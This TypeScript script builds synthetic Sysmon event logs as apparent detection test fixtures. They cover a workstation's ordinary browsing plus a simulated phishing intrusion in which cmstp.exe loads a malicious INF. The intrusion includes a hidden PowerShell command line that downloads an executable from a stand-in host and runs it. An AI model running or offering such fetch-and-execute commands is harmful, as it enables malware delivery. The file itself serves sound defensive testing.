import { mkdirSync } from 'node:fs';
import { writeEvtxFile, type WriterEvent } from '../src/formats/evtx/write-evtx.js';
import { dnsQuery, fileCreate, networkConnect, processCreate, sysmonGuid, type ProcessSpec } from './sysmon-events.js';

/**
 * The example logs shipped in examples/: host WS01 where a phishing document starts cmstp.exe with
 * a malicious INF, which resolves and connects to an external server and drops a payload, among
 * ordinary activity (browsers, updates, internal connections) and a lookalike that must not alert.
 */
const host = 'WS01.corp.example';
const user = 'CORP\\alice';
let n = 1;
const proc = (image: string, commandLine: string, parent?: ProcessSpec, integrity?: string): ProcessSpec => ({
  guid: sysmonGuid(1, n++),
  pid: 1000 + n * 7,
  image,
  commandLine,
  user,
  ...(integrity !== undefined ? { integrity } : {}),
  ...(parent !== undefined ? { parent } : {}),
});
let clock = Date.parse('2026-03-12T08:55:00Z');
const t = (stepSeconds = 7) => {
  clock += stepSeconds * 1000;
  return new Date(clock).toISOString().replace('Z', '1234Z').replace(/\.(\d{3})1234Z$/, '.$11234Z');
};

const events: WriterEvent[] = [];
const explorer = proc('C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE');
const chrome = proc('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', explorer);
const teams = proc('C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', '"Teams.exe" --process-start-args "--profile=AAD"', explorer);
events.push(processCreate(t(), host, explorer));
events.push(processCreate(t(), host, chrome));
events.push(processCreate(t(), host, teams));
for (let i = 0; i < 40; i++) {
  events.push(dnsQuery(t(3), host, chrome, `www.example${i % 5}.com`, [`93.184.216.${10 + (i % 5)}`]));
  events.push(networkConnect(t(1), host, chrome, `93.184.216.${10 + (i % 5)}`, 443));
  if (i % 4 === 0) events.push(networkConnect(t(2), host, teams, '52.112.0.20', 443));
  if (i % 10 === 0) events.push(networkConnect(t(2), host, chrome, '10.20.0.5', 8080));
}
// An administrator installs a VPN profile with cmstp from an internal share: internal connection only.
const adminCmd = proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c \\\\fs01\\it\\vpn\\install.cmd', explorer, 'High');
const goodCmstp = proc('C:\\Windows\\System32\\cmstp.exe', 'cmstp.exe /s \\\\fs01\\it\\vpn\\corpvpn.inf', adminCmd, 'High');
events.push(processCreate(t(), host, adminCmd), processCreate(t(), host, goodCmstp), networkConnect(t(), host, goodCmstp, '10.20.0.12', 445));

// The intrusion: a phishing document starts cmstp.exe with a malicious INF fetched from the web.
const winword = proc('C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\Invoice_4471.docm"', explorer);
const cmd = proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c cmstp.exe /ni /s C:\\Users\\alice\\AppData\\Local\\Temp\\svc.inf', winword);
const cmstp = proc('C:\\Windows\\System32\\cmstp.exe', 'cmstp.exe /ni /s C:\\Users\\alice\\AppData\\Local\\Temp\\svc.inf', cmd);
const ps = proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -c "iwr https://cdn-update.example.net/p.bin -OutFile $env:TEMP\\upd.exe; & $env:TEMP\\upd.exe"', cmstp, 'High');
events.push(processCreate(t(30), host, winword));
events.push(processCreate(t(12), host, cmd));
events.push(processCreate(t(1), host, cmstp));
events.push(dnsQuery(t(1), host, cmstp, 'cdn-update.example.net', ['203.0.113.50']));
events.push(networkConnect(t(1), host, cmstp, '203.0.113.50', 443));
events.push(networkConnect(t(2), host, cmstp, '2001:db8:85a3::8a2e:370:7334', 443));
events.push(processCreate(t(2), host, ps));
events.push(networkConnect(t(1), host, ps, '203.0.113.50', 443));
events.push(fileCreate(t(3), host, ps, 'C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe'));
// The INF's scriptlet also has cmstp write a second stage itself, which then runs: download, write, execute.
const stage2Path = 'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\msupd.exe';
events.push(fileCreate(t(2), host, cmstp, stage2Path));
const stage2 = proc(stage2Path, `"${stage2Path}" /q`, cmstp, 'High');
events.push(processCreate(t(20), host, stage2));
// A lookalike name that must not alert.
const lookalike = proc('C:\\Users\\alice\\Tools\\notcmstp.exe', 'notcmstp.exe --sync', explorer);
events.push(processCreate(t(), host, lookalike), networkConnect(t(), host, lookalike, '198.51.100.7', 443));
for (let i = 0; i < 20; i++) events.push(networkConnect(t(5), host, chrome, `93.184.216.${10 + (i % 5)}`, 443));

mkdirSync('examples', { recursive: true });
const out = writeEvtxFile('examples/ws01-sysmon.evtx', events);
process.stdout.write(`examples/ws01-sysmon.evtx: ${out.records} records, ${out.bytes} bytes\n`);
